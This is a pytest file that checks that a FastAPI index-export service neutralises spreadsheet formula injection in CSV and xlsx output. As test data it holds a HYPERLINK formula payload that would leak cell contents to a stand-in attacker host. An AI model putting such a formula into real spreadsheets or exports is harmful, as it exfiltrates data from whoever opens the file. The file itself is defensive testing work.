"""Spreadsheet formula injection in custom-index exports (issue #12, item 3).

User text that starts with = + - @ tab or CR must reach a spreadsheet as text (OWASP CSV
injection rule): prefixed with a single quote, and in xlsx stored as a string cell, never a
formula. Numbers (negative returns included) stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.indices.export import csv_bytes, neutralise
from tests.indices.conftest import new_user

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")'


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("plain text", "plain text"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise_text(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_neutralise_leaves_numbers_and_empty_cells_alone() -> None:
    assert neutralise(-0.0125) == -0.0125
    assert neutralise(-3) == -3
    assert neutralise(None) is None


def test_csv_cells_are_neutralised_and_numbers_kept() -> None:
    data = csv_bytes(["text", "number"], [["=1+2", -1.5], ["@cmd", 2], ["\tx", None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows == [["text", "number"], ["'=1+2", "-1.5"], ["'@cmd", "2"], ["'\tx", ""]]


def test_exports_write_user_text_as_text(index_api: TestClient, admin_auth: dict[str, str]) -> None:
    # USERNAME_PATTERN allows a leading '-' or '@': the owner's name is user text too.
    owner = new_user(index_api, admin_auth, "-2-3.user")
    body = {
        "name": "injection",
        "description": HYPERLINK,
        "universe": ["TCS", "INFY", "WIPRO"],
        "weighting": "equal",
        "base_date": "2024-01-01",
        "rebalance": "monthly",
    }
    created = index_api.post("/indices", json=body, headers=owner)
    assert created.status_code == 201, created.text
    assert created.json()["description"] == HYPERLINK  # the API returns it unchanged

    xlsx = index_api.get("/indices/injection/export?format=xlsx", headers=owner)
    assert xlsx.status_code == 200, xlsx.text
    book = load_workbook(io.BytesIO(xlsx.content))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(DANGEROUS), (sheet.title, cell.value)
    assert texts > 0
    definition = {r[0].value: r[1].value for r in book["definition"].iter_rows() if len(r) > 1}
    assert definition["description"] == "'" + HYPERLINK
    assert definition["owner"] == "'-2-3.user"
    description = next(r[1] for r in book["definition"].iter_rows() if r[0].value == "description")
    assert description.data_type == "s"
    # Numbers stay numbers: negative daily returns are numeric cells, not quoted text.
    history = list(book["history"].iter_rows(min_row=2, values_only=True))
    assert any(isinstance(r[2], float) and r[2] < 0 for r in history)
    book.close()

    exported = index_api.get("/indices/injection/export?format=csv", headers=owner)
    assert exported.status_code == 200, exported.text
    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
    assert any(c.startswith("-") for c in cells)  # negative returns, as numbers
    for cell in cells:
        assert not cell.startswith(DANGEROUS) or is_number(cell), cell
